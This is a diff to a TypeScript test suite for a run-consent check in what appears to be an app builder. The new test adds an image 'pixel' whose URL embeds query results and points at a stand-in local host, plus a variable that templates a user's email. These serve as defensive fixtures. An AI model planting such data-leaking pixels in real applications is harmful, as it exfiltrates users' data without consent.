@@ -50,11 +50,30 @@ describe("run consent", () => {
     expect(isTrusted(storage, "u1", "a1", after)).toBe(false);
   });
 
+  it("asks again when an expression in a prop or a variable changes", () => {
+    const storage = memoryStorage();
+    const before = draft("select 1");
+    trust(storage, "u1", "a1", before);
+    const image = structuredClone(before);
+    image.pages[0].components[0]!.children!.push({
+      id: "pixel",
+      type: "image",
+      props: { src: "https://127.0.0.1:9/?d={{ queries.q.data }}" },
+      layout: { x: 0, y: 2, w: 1, h: 1 },
+    });
+    expect(isTrusted(storage, "u1", "a1", image)).toBe(false);
+    const nested = structuredClone(before);
+    nested.pages[0].components[0]!.props = { columns: [{ label: "{{ queries.q.data[0] }}" }] };
+    expect(isTrusted(storage, "u1", "a1", nested)).toBe(false);
+    expect(isTrusted(storage, "u1", "a1", draft("select 1", { variables: { target: "{{ user.email }}" } }))).toBe(false);
+  });
+
   it("ignores layout and text changes, and the order a store keeps keys in", () => {
     const storage = memoryStorage();
     trust(storage, "u1", "a1", draft("select 1"));
     const moved = draft("select 1");
     moved.pages[0].components[0]!.layout = { x: 3, y: 3, w: 6, h: 4 };
+    moved.pages[0].components[0]!.props = { title: "Customers, plain text" };
     expect(isTrusted(storage, "u1", "a1", moved)).toBe(true);
     expect(canonical({ b: 1, a: [{ d: 2, c: 3 }] })).toBe(canonical({ a: [{ c: 3, d: 2 }], b: 1 }));
     expect(runFingerprint(draft("select 1"))).toBe(runFingerprint(JSON.parse(JSON.stringify(draft("select 1"))) as Definition));
